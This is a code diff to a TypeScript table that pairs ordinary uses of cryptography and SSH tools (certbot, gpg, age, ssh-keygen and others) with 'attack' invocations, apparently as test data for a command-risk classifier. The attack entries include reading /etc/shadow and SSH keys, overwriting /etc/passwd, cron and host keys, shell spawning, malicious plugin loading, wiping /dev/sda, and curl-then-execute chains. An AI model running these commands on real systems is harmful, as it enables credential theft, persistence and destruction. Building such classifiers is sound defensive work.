@@ -2,121 +2,102 @@ import type { ExampleTable } from './example.ts'
 
 export const cryptography: ExampleTable = {
   'acme.sh': {
-    use: `acme.sh --pre-hook='cat notes.txt' → read notes.txt`,
+    use: 'acme.sh --install-cert -d example.org --key-file key.pem --fullchain-file cert.pem → write key.pem; write cert.pem',
     attack: [
-      `acme.sh --pre-hook='cat /etc/shadow' → read /etc/shadow`,
-      'acme.sh --pre-hook=/bin/sh → shell sh',
+      "acme.sh --issue -d example.org -w www --pre-hook 'cat /etc/shadow' → read /etc/shadow",
+      'acme.sh --issue -d example.org -w www --pre-hook /bin/sh → shell sh',
     ],
   },
   certbot: {
-    use: `certbot --pre-hook='cat notes.txt' → read notes.txt`,
+    use: 'certbot certonly --webroot -w www -d example.org --fullchain-path cert.pem → write cert.pem',
     attack: [
-      `certbot --pre-hook='cat /etc/shadow' → read /etc/shadow`,
-      'certbot --pre-hook=/bin/sh → shell sh',
+      "certbot certonly --standalone -d example.org --pre-hook 'cat /etc/shadow' → read /etc/shadow",
+      'certbot certonly --standalone -d example.org --pre-hook /bin/sh → shell sh',
     ],
   },
   certtool: {
-    use: 'certtool --infile=notes.txt → read notes.txt',
+    use: 'certtool -i --infile cert.pem → read cert.pem',
     attack: [
-      'certtool --infile=/etc/shadow → read /etc/shadow',
-      'certtool --outfile=/etc/cron.d/job → write /etc/cron.d/job',
+      'certtool -k --infile /etc/ssl/private/server.key → read /etc/ssl/private/server.key',
+      'certtool -p --outfile /etc/passwd → write /etc/passwd',
     ],
   },
   certutil: {
-    use: 'certutil -i notes.txt → read notes.txt',
-    attack: [
-      'certutil -i /etc/shadow → read /etc/shadow',
-      'certutil -o /etc/cron.d/job → write /etc/cron.d/job',
-    ],
+    use: 'certutil -A -d sql:db -n own-ca -t C,, -i ca.pem → read ca.pem',
+    attack: 'certutil -R -d sql:db -s CN=example.org -o /etc/passwd → write /etc/passwd',
   },
   cfssl: {
-    use: 'cfssl --config=app.conf → read app.conf',
-    attack: 'cfssl --config=/etc/shadow → read /etc/shadow',
+    use: 'cfssl gencert -ca ca.pem -ca-key ca.key -config ca.json csr.json → use ca.pem; use ca.key; use ca.json',
   },
   dehydrated: {
-    use: 'dehydrated -f app.conf → read app.conf',
-    attack: [
-      'dehydrated -f /etc/shadow → read /etc/shadow',
-      `dehydrated -k 'cat /etc/shadow' → read /etc/shadow`,
-    ],
+    use: 'dehydrated -c -f config.sh → read config.sh',
+    attack:
+      'curl -so c.sh https://example.org/x && dehydrated -c -f c.sh → execute ‹https://example.org/x›',
   },
   easyrsa: {
-    use: 'easyrsa --vars=main.sh → read main.sh',
-    attack: [
-      'easyrsa --vars=/etc/shadow → read /etc/shadow',
-      'easyrsa --ssl-conf=/etc/shadow → read /etc/shadow',
-    ],
+    use: 'easyrsa --vars=vars build-ca → read vars',
+    attack:
+      'curl -so vars https://example.org/x && easyrsa --vars=vars build-ca → execute ‹https://example.org/x›',
   },
   keytool: {
-    use: 'keytool -providerpath /usr/lib/plugin.so → load /usr/lib/plugin.so',
-    attack: [
-      'keytool -providerpath /tmp/x.so → load /tmp/x.so',
-      'keytool -destkeystore /etc/cron.d/job → write /etc/cron.d/job',
-    ],
+    use: 'keytool -genkeypair -alias app -keystore app.jks → use app.jks',
+    attack:
+      'keytool -list -keystore app.jks -providerclass Own -providerpath /tmp/x.jar → load /tmp/x.jar; use app.jks',
   },
   lego: {
-    use: 'lego --csr=notes.txt → read notes.txt',
-    attack: [
-      'lego --csr=/etc/shadow → read /etc/shadow',
-      `lego --run-hook='cat /etc/shadow' → read /etc/shadow`,
-    ],
+    use: 'lego --domains example.org --csr app.csr --http run → use app.csr',
+    attack: "lego --domains example.org --http --run-hook='cat /etc/shadow' run → read /etc/shadow",
   },
   mkcert: {
-    use: 'mkcert --cert-file=out.txt → write out.txt',
-    attack: [
-      'mkcert --cert-file=/etc/cron.d/job → write /etc/cron.d/job',
-      'mkcert --key-file=/etc/cron.d/job → write /etc/cron.d/job',
-    ],
+    use: 'mkcert -cert-file cert.pem -key-file key.pem example.org → write cert.pem; write key.pem',
+    attack: 'mkcert -cert-file /etc/passwd example.org → write /etc/passwd',
   },
   modutil: {
-    use: 'modutil -libfile /usr/lib/plugin.so → load /usr/lib/plugin.so',
-    attack: 'modutil -libfile /tmp/x.so → load /tmp/x.so',
+    use: 'modutil -dbdir sql:db -add card -libfile /usr/lib/opensc-pkcs11.so → load /usr/lib/opensc-pkcs11.so',
+    attack: 'modutil -dbdir sql:db -add card -libfile /tmp/x.so → load /tmp/x.so',
   },
   'opensc-explorer': {
-    use: 'opensc-explorer main.txt → read main.txt',
+    use: 'opensc-explorer commands.txt → read commands.txt',
     attack: 'opensc-explorer /etc/shadow → read /etc/shadow',
   },
   p11tool: {
-    use: 'p11tool --provider=/usr/lib/plugin.so → load /usr/lib/plugin.so',
-    attack: 'p11tool --provider=/tmp/x.so → load /tmp/x.so',
+    use: 'p11tool --provider=/usr/lib/opensc-pkcs11.so --list-tokens → load /usr/lib/opensc-pkcs11.so',
+    attack: 'p11tool --provider=/tmp/x.so --list-tokens → load /tmp/x.so',
   },
   pk12util: {
-    use: 'pk12util -l notes.txt → read notes.txt',
-    attack: ['pk12util -l /etc/shadow → read /etc/shadow', 'pk12util -o → privilege pk12util'],
+    use: 'pk12util -l app.p12 → use app.p12',
+    attack: 'pk12util -o out.p12 -n app -d sql:db → privilege pk12util; read secret://pk12util',
   },
   'pkcs11-tool': {
-    use: 'pkcs11-tool --module=/usr/lib/plugin.so → load /usr/lib/plugin.so',
-    attack: 'pkcs11-tool --module=/tmp/x.so → load /tmp/x.so',
+    use: 'pkcs11-tool --module=/usr/lib/opensc-pkcs11.so -L → load /usr/lib/opensc-pkcs11.so',
+    attack: 'pkcs11-tool --module=/tmp/x.so -L → load /tmp/x.so',
   },
   'pkcs15-tool': {
-    use: 'pkcs15-tool -o out.txt → write out.txt',
-    attack: 'pkcs15-tool -o /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'pkcs15-tool -r 01 -o cert.pem → write cert.pem',
+    attack: 'pkcs15-tool -r 01 -o /etc/passwd → write /etc/passwd',
   },
   'step-ca': {
-    use: 'step-ca app.conf → read app.conf; listen 443',
-    attack: 'step-ca /etc/shadow → read /etc/shadow; listen 443',
+    use: 'step-ca ca.json → read ca.json; listen 443',
+    attack:
+      'curl -so ca.json https://example.org/x && step-ca ca.json → execute ‹https://example.org/x›; listen 443',
   },
   dropbearconvert: {
-    use: 'dropbearconvert openssh dropbear app.key out.txt → write out.txt',
-    attack: 'dropbearconvert openssh dropbear app.key /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'dropbearconvert openssh dropbear id_rsa id_dropbear → write id_dropbear',
+    attack:
+      'dropbearconvert openssh dropbear id_rsa /etc/ssh/ssh_host_rsa_key → write /etc/ssh/ssh_host_rsa_key',
   },
   dropbearkey: {
-    use: 'dropbearkey -f out.txt → write out.txt',
-    attack: 'dropbearkey -f /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'dropbearkey -t ed25519 -f id_dropbear → write id_dropbear',
+    attack:
+      'dropbearkey -t ed25519 -f /etc/ssh/ssh_host_ed25519_key → write /etc/ssh/ssh_host_ed25519_key',
   },
   puttygen: {
-    use: 'puttygen app.key -o out.txt → write out.txt',
-    attack: [
-      'puttygen /etc/shadow → use /etc/shadow',
-      'puttygen app.key -o /etc/cron.d/job → write /etc/cron.d/job',
-    ],
+    use: 'puttygen id_rsa -o id_rsa.ppk → write id_rsa.ppk',
+    attack: 'puttygen -t rsa -o /etc/ssh/ssh_host_rsa_key → write /etc/ssh/ssh_host_rsa_key',
   },
   'ssh-add': {
-    use: 'ssh-add app.key -s /usr/lib/plugin.so → load /usr/lib/plugin.so',
-    attack: [
-      'ssh-add /etc/shadow → use /etc/shadow',
-      'ssh-add app.key -s /tmp/x.so → load /tmp/x.so',
-    ],
+    use: 'ssh-add -s /usr/lib/opensc-pkcs11.so → load /usr/lib/opensc-pkcs11.so',
+    attack: 'ssh-add -s /tmp/x.so → load /tmp/x.so',
   },
   'ssh-agent': {
     use: 'ssh-agent cat notes.txt → read notes.txt',
@@ -124,195 +105,181 @@ export const cryptography: ExampleTable = {
   },
   'ssh-audit': {
     use: 'ssh-audit db.example.org → send db.example.org',
-    attack: [
-      'ssh-audit db.example.org -T /etc/shadow → read /etc/shadow; send db.example.org',
-      'ssh-audit db.example.org -M /etc/cron.d/job → send db.example.org; write /etc/cron.d/job',
-    ],
+    attack: 'ssh-audit -T /etc/shadow → read /etc/shadow',
   },
   'ssh-import-id': {
-    attack: [
-      'ssh-import-id -o /etc/cron.d/job → privilege; fetch ssh-import-id; write /etc/cron.d/job',
-      'ssh-import-id → privilege; fetch ssh-import-id',
-    ],
+    attack: 'ssh-import-id gh:mallory → privilege gh:mallory; fetch ssh-import-id',
   },
   'ssh-keygen': {
-    use: 'ssh-keygen -D /usr/lib/plugin.so → load /usr/lib/plugin.so',
+    use: 'ssh-keygen -t ed25519 -f id_app → use id_app',
     attack: [
       'ssh-keygen -D /tmp/x.so → load /tmp/x.so',
-      'ssh-keygen -w /tmp/x.so → load /tmp/x.so',
+      'ssh-keygen -t ed25519-sk -w /tmp/x.so → load /tmp/x.so',
     ],
   },
   'ssh-keyscan': {
-    use: 'ssh-keyscan -f notes.txt → read notes.txt',
+    use: 'ssh-keyscan -f hosts.txt → read hosts.txt',
     attack: 'ssh-keyscan -f /etc/shadow → read /etc/shadow',
   },
   dirmngr: {
-    use: 'dirmngr --options=app.conf → read app.conf',
-    attack: [
-      'dirmngr --options=/etc/shadow → read /etc/shadow',
-      'dirmngr --log-file=/etc/cron.d/job → write /etc/cron.d/job',
-    ],
+    use: 'dirmngr --daemon --options=dirmngr.conf → read dirmngr.conf',
+    attack: 'dirmngr --daemon --log-file=/etc/passwd → write /etc/passwd',
   },
   'dirmngr-client': {
-    use: 'dirmngr-client notes.txt → read notes.txt',
-    attack: 'dirmngr-client /etc/shadow → read /etc/shadow',
+    use: 'dirmngr-client cert.pem → use cert.pem',
   },
   'gpg-agent': {
-    use: 'gpg-agent cat notes.txt → read notes.txt',
-    attack: ['gpg-agent cat /etc/shadow → read /etc/shadow', 'gpg-agent bash → shell bash'],
+    use: 'gpg-agent --daemon cat notes.txt → read notes.txt',
+    attack: [
+      'gpg-agent --daemon bash → shell bash',
+      'gpg-agent --daemon --pinentry-program=/tmp/x → run /tmp/x',
+    ],
   },
   'gpg-connect-agent': {
-    use: 'gpg-connect-agent -r notes.txt → read notes.txt',
-    attack: 'gpg-connect-agent -r /etc/shadow → read /etc/shadow',
+    use: 'gpg-connect-agent -r commands.txt → read commands.txt',
+    attack: "gpg-connect-agent '/definqprog x /tmp/x' → run /tmp/x",
   },
   'gpg-zip': {
-    use: 'gpg-zip notes.txt → read notes.txt',
+    use: 'gpg-zip -e -r ann -o out.gpg src → read-tree src; write out.gpg',
     attack: [
-      'gpg-zip /etc/shadow → read /etc/shadow',
-      'gpg-zip notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'gpg-zip -e -r mallory -o out.gpg /root/.ssh → read-tree /root/.ssh; write out.gpg',
+      'gpg-zip -e -r ann --tar /tmp/x src → run /tmp/x; read-tree src',
     ],
   },
   gpgsplit: {
-    use: 'gpgsplit notes.txt → read notes.txt',
-    attack: 'gpgsplit /etc/shadow → read /etc/shadow',
+    use: 'gpgsplit message.gpg → use message.gpg',
   },
   gpgtar: {
-    use: 'gpgtar notes.txt → read notes.txt',
+    use: 'gpgtar -e -r ann -o out.gpg src → read-tree src; write out.gpg',
     attack: [
-      'gpgtar /etc/shadow → read /etc/shadow',
-      'gpgtar notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'gpgtar -e -r mallory -o out.gpg /root/.ssh → read-tree /root/.ssh; write out.gpg',
+      'gpgtar -d -C /etc/cron.d job.gpg → unpack /etc/cron.d',
     ],
   },
   sq: {
-    use: 'sq -o out.txt → write out.txt',
-    attack: 'sq -o /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'sq encrypt --recipient-file ann.pgp -o out.pgp notes.txt → use ann.pgp; write out.pgp',
+    attack:
+      'sq decrypt --recipient-key ann.key -o /etc/cron.d/job job.pgp → use ann.key; write /etc/cron.d/job',
   },
   aescrypt: {
-    use: 'aescrypt notes.txt → read notes.txt',
+    use: 'aescrypt -e -p pw notes.txt → read notes.txt',
     attack: [
-      'aescrypt /etc/shadow → read /etc/shadow',
-      'aescrypt notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'aescrypt -e -p pw -o out.aes /etc/shadow → read /etc/shadow; write out.aes',
+      'aescrypt -d -p pw -o /etc/cron.d/job job.aes → read job.aes; write /etc/cron.d/job',
     ],
   },
   age: {
-    use: 'age notes.txt → read notes.txt',
+    use: 'age -r age1ql3z7hjy -o notes.age notes.txt → read notes.txt; write notes.age',
     attack: [
-      'age /etc/shadow → read /etc/shadow',
-      'age notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'age -r age1ql3z7hjy -o out.age /etc/shadow → read /etc/shadow; write out.age',
+      'age -d -i key.txt -o /etc/cron.d/job job.age → read job.age; write /etc/cron.d/job',
     ],
   },
   'age-keygen': {
-    use: 'age-keygen notes.txt → read notes.txt',
-    attack: [
-      'age-keygen /etc/shadow → read /etc/shadow',
-      'age-keygen notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
-    ],
+    use: 'age-keygen -o key.txt → write key.txt',
+    attack: 'age-keygen -o /etc/cron.d/job → write /etc/cron.d/job',
   },
   bcrypt: {
     use: 'bcrypt notes.txt → edit notes.txt',
-    attack: 'bcrypt /etc/sudoers → edit /etc/sudoers',
+    attack: 'bcrypt /etc/passwd → edit /etc/passwd',
   },
   blackbox_cat: {
-    attack: 'blackbox_cat app.key → read secret://app.key',
+    attack: 'blackbox_cat secrets.txt.gpg → read secret://secrets.txt.gpg',
   },
   blackbox_edit: {
-    use: 'blackbox_edit notes.txt → edit notes.txt',
-    attack: 'blackbox_edit /etc/sudoers → edit /etc/sudoers',
+    use: 'blackbox_edit notes.txt.gpg → edit notes.txt.gpg',
   },
   ccat: {
-    use: 'ccat notes.txt → read notes.txt',
-    attack: 'ccat /etc/shadow → read /etc/shadow',
+    use: 'ccat notes.txt.cpt → read notes.txt.cpt',
+    attack: 'ccat /root/.ssh/id_rsa.cpt → read /root/.ssh/id_rsa.cpt',
   },
   ccdecrypt: {
-    use: 'ccdecrypt notes.txt → edit notes.txt',
-    attack: 'ccdecrypt /etc/sudoers → edit /etc/sudoers',
+    use: 'ccdecrypt notes.txt.cpt → edit notes.txt.cpt',
   },
   ccencrypt: {
     use: 'ccencrypt notes.txt → edit notes.txt',
-    attack: 'ccencrypt /etc/sudoers → edit /etc/sudoers',
+    attack: 'ccencrypt /etc/passwd → edit /etc/passwd',
   },
   ccrypt: {
     use: 'ccrypt notes.txt → edit notes.txt',
-    attack: 'ccrypt /etc/sudoers → edit /etc/sudoers',
+    attack: 'ccrypt /etc/passwd → edit /etc/passwd',
   },
   encfsctl: {
-    use: `encfsctl info crypt --extpass='cat notes.txt' → read notes.txt`,
-    attack: [
-      'encfsctl info crypt --extpass=/tmp/x → run /tmp/x',
-      `encfsctl info crypt --extpass='cat /etc/shadow' → read /etc/shadow`,
-    ],
+    use: "encfsctl decode --extpass='cat pw.txt' crypt name → read pw.txt",
+    attack: 'encfsctl decode --extpass=/tmp/x crypt name → run /tmp/x',
   },
   gocryptfs: {
-    use: `gocryptfs crypt plain -extpass 'cat notes.txt' → read notes.txt`,
-    attack: [
-      'gocryptfs crypt plain -extpass /tmp/x → run /tmp/x',
-      `gocryptfs crypt plain -extpass 'cat /etc/shadow' → read /etc/shadow`,
-    ],
+    use: "gocryptfs -extpass 'cat pw.txt' crypt plain → read pw.txt",
+    attack: 'gocryptfs -extpass /tmp/x crypt plain → run /tmp/x',
   },
   mcrypt: {
     use: 'mcrypt notes.txt → read notes.txt',
     attack: 'mcrypt /etc/shadow → read /etc/shadow',
   },
   scrypt: {
-    use: 'scrypt dec notes.txt out.txt → read notes.txt; write out.txt',
+    use: 'scrypt enc notes.txt notes.enc → read notes.txt; write notes.enc',
     attack: [
-      'scrypt dec /etc/shadow out.txt → read /etc/shadow; write out.txt',
-      'scrypt dec notes.txt /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'scrypt enc /etc/shadow out.enc → read /etc/shadow; write out.enc',
+      'scrypt dec job.enc /etc/cron.d/job → read job.enc; write /etc/cron.d/job',
     ],
   },
   shc: {
-    use: 'shc -f notes.txt → read notes.txt',
-    attack: [
-      'shc -f /etc/shadow → read /etc/shadow',
-      'shc -o /etc/cron.d/job → write /etc/cron.d/job',
-    ],
+    use: 'shc -f run.sh -o run → read run.sh; write run',
+    attack: 'shc -f run.sh -o /usr/bin/ssh → read run.sh; write /usr/bin/ssh',
   },
   sops: {
-    use: 'sops demo --output=out.txt → write out.txt',
-    attack: 'sops demo --output=/etc/cron.d/job → write /etc/cron.d/job',
+    use: 'sops -e --output secrets.enc.yaml secrets.yaml → write secrets.enc.yaml',
+    attack: [
+      'sops -d secrets.enc.yaml → read secret://secrets.enc.yaml',
+      'sops -e --output /etc/passwd secrets.yaml → write /etc/passwd',
+    ],
   },
   'ssh-vault': {
-    use: 'ssh-vault view notes.txt out.txt → read notes.txt; write out.txt',
+    use: 'ssh-vault -u ann create notes.txt notes.vault → read notes.txt; write notes.vault',
     attack: [
-      'ssh-vault view /etc/shadow out.txt → read /etc/shadow; write out.txt',
-      'ssh-vault view notes.txt /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'ssh-vault -u mallory create /etc/shadow out.vault → read /etc/shadow; write out.vault',
+      'ssh-vault -k id_rsa view job.vault /etc/cron.d/job → read job.vault; write /etc/cron.d/job',
     ],
   },
   outguess: {
-    use: 'outguess notes.txt out.txt → read notes.txt; write out.txt',
+    use: 'outguess -k key -d hidden.txt cover.jpg out.jpg → read hidden.txt; read cover.jpg; write out.jpg',
     attack: [
-      'outguess /etc/shadow out.txt → read /etc/shadow; write out.txt',
-      'outguess notes.txt /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
+      'outguess -k key -d /etc/shadow cover.jpg out.jpg → read /etc/shadow; read cover.jpg; write out.jpg',
+      'outguess -r -k key photo.jpg /etc/cron.d/job → read photo.jpg; write /etc/cron.d/job',
     ],
   },
   stegcracker: {
-    use: 'stegcracker notes.txt notes.txt → read notes.txt',
-    attack: [
-      'stegcracker /etc/shadow notes.txt → read /etc/shadow; read notes.txt',
-      'stegcracker notes.txt notes.txt -o /etc/cron.d/job → read notes.txt; write /etc/cron.d/job',
-    ],
+    use: 'stegcracker photo.jpg words.txt → read photo.jpg; read words.txt',
+    attack:
+      'stegcracker photo.jpg words.txt -o /etc/cron.d/job → read photo.jpg; read words.txt; write /etc/cron.d/job',
   },
   steghide: {
-    use: 'steghide --ef=notes.txt → read notes.txt',
+    use: 'steghide embed -ef notes.txt -cf cover.jpg → read notes.txt; use cover.jpg',
     attack: [
-      'steghide --ef=/etc/shadow → read /etc/shadow',
-      'steghide --cf=/etc/shadow → read /etc/shadow',
+      'steghide embed -ef /etc/shadow -cf cover.jpg → read /etc/shadow; use cover.jpg',
+      'steghide extract -xf /etc/cron.d/job -p pw → write /etc/cron.d/job',
     ],
   },
   zsteg: {
-    use: 'zsteg notes.txt → read notes.txt',
-    attack: 'zsteg /etc/shadow → read /etc/shadow',
+    use: 'zsteg photo.png → use photo.png',
   },
   apg: {
-    use: 'apg -b notes.txt → read notes.txt',
-    attack: 'apg -b /etc/shadow → read /etc/shadow',
+    use: 'apg -n 5 -b words.bloom → use words.bloom',
   },
   htdigest: {
-    use: 'htdigest out.txt → write out.txt',
-    attack: 'htdigest /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'htdigest -c users.digest realm ann → write users.digest',
+    attack: 'htdigest -c /etc/passwd realm ann → write /etc/passwd',
   },
   htpasswd: {
-    use: 'htpasswd out.txt → write out.txt',
-    attack: 'htpasswd /etc/cron.d/job → write /etc/cron.d/job',
+    use: 'htpasswd -c users.htpasswd ann → write users.htpasswd',
+    attack: 'htpasswd -c /etc/passwd ann → write /etc/passwd',
+  },
+  step: {
+    use: 'step ca bootstrap --ca-url https://ca.example.org --fingerprint 1a2b → fetch https://ca.example.org',
+    attack: 'step ca renew cert.pem key.pem --exec /tmp/x → run /tmp/x',
+  },
+  veracrypt: {
+    use: 'veracrypt --create=vault.hc → write vault.hc',
+    attack: 'veracrypt --create=/dev/sda → write /dev/sda',
   },
 }
